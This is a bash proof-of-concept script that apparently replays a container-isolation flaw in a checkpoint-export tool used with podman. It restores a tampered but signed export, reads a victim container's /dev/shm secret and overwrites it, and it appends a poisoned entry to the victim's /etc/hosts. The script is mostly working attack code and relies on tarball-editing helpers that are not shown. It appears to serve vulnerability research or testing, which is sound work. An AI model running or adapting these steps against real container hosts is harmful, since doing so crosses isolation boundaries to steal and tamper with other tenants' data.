#!/bin/bash
# attack30i: replay HOLE C (victimshm: signed export with a named volume whose tar plants overlay-containers/ID ->
# the victim's storage dir; victimhosts: root entries plant a link to the victim's run dir) under the default policy
# (dcontainers.conf -> rt-default.sh -> dtrust: the node key, no allow_unsigned).
set -u; export CONTAINERS_CONF=/var/tmp/attack30i/dcontainers.conf
D=/var/tmp/attack30i; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3; cd $D
podman rm -f -t0 attack30i-victim >/dev/null 2>&1
podman run -d --name attack30i-victim --network none localhost/gpuckpt-test:latest sh -c 'echo victim-secret > /dev/shm/secret; sleep 900' >/dev/null
sleep 1; V=$(podman inspect attack30i-victim --format '{{.Id}}')
# victimshm: a signed export with a named volume
podman rm -f -t 0 attack30i-src >/dev/null 2>&1; podman volume rm -f attack30i-vol >/dev/null 2>&1
podman run -d --name attack30i-src --network none -v attack30i-vol:/data localhost/gpuckpt-test:latest \
  sh -c 'i=0; while true; do i=$((i+1)); echo $i > /tmp/count; sleep 1; done' >/dev/null; sleep 2
gpuckpt export attack30i-src -o $D/vsrc.tar.zst 2>&1 | tail -1
podman rm -f -t 0 attack30i-src >/dev/null; podman volume rm -f attack30i-vol >/dev/null
$P $H/edit30i.py vsrc.tar.zst victimshm.tar.zst victimshm $V
echo "=== victimshm.tar.zst (signed, default policy) $(date -u +%T)"
timeout 200 podman container restore --import victimshm.tar.zst 2>&1 | tail -1 | cut -c1-500; echo "restore rc=${PIPESTATUS[0]}"
podman exec attack30i-src sh -c 'cat /dev/shm/secret; echo tampered-by-attack30i > /dev/shm/secret' 2>&1; echo "exec rc=$?"
echo "victim's /dev/shm/secret: $(podman exec attack30i-victim cat /dev/shm/secret)"
podman rm -f -t 0 attack30i-src >/dev/null 2>&1; podman volume rm -f attack30i-vol >/dev/null 2>&1
# victimhosts: plain signed export, root entries
$P $H/victimhosts.py src.tar.zst victimhosts.tar.zst $V
echo "=== victimhosts.tar.zst (signed, default policy) $(date -u +%T)"
timeout 200 podman container restore --import victimhosts.tar.zst 2>&1 | tail -1 | cut -c1-500; echo "restore rc=${PIPESTATUS[0]}"
podman exec attack30i-src sh -c 'grep " /etc/hosts " /proc/self/mountinfo; echo "6.6.6.6 attack30i-poisoned" >> /etc/hosts' 2>&1; echo "exec rc=$?"
echo "victim's /etc/hosts poisoned: $(podman exec attack30i-victim grep -c attack30i-poisoned /etc/hosts)"
podman rm -f -t 0 attack30i-src attack30i-victim >/dev/null 2>&1
